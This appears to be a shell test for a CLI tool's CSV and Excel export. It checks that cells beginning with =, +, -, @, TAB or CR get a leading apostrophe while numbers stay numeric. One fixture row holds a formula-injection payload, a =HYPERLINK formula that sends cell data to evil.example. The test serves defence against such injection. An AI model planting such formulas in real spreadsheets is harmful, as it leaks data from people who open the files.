# CSV and --excel: a text cell (an id, a name, a segment) that begins with =,
# +, -, @, TAB or CR would be a live formula in a spreadsheet (=HYPERLINK
# sends the sheet's data away): it gets a leading ' (docs/cli.md, "Output
# formats"), kept inside the quotes when the cell is quoted. Numbers in
# numeric columns (-2.45, -20,00) stay numbers; JSON and tables keep the text.
d=$PWD; cd "$TMPDIR"
printf 'customer_id,date,amount\n' > f.csv
printf '"=HYPERLINK(""http://evil.example/?""&A1,""click"")",2026-01-05,10\n' >> f.csv
printf '+7 495 000,2026-02-01,20\n-5,2026-03-01,30\n@SUM(A1:A2),2026-04-01,40\n' >> f.csv
printf '"\rCR",2026-05-01,50\n"\tTAB",2026-05-02,55\nPlain,2026-06-01,60\n' >> f.csv
printf 'customer_id,name\nPlain,=1+2\n-5,-minus\n+7 495 000,"@x; ok"\n' > fc.csv
$RELMARK rfm f.csv --format csv | sed -n 'l 0'
$RELMARK rfm f.csv --excel | sed -n 'l 0'
$RELMARK portfolio f.csv --customers fc.csv --excel 2>/dev/null | cut -d';' -f1-3
$RELMARK rfm f.csv --format json | grep -c '"customer_id": "[-+=@]'
$RELMARK rfm f.csv | cut -c1-12
# (a TAB before an id is a blank the reader trims.) Numbers in numeric columns: untouched
$RELMARK rate "$d/rate_invoices.csv" --customers "$d/rate_clients.csv" --excel | grep ';-'
printf 'customer,date,amount\nA,2026-05-01,0\nB,2026-06-01,-20\n' > r.csv
$RELMARK abcxyz r.csv --excel | grep ';-'
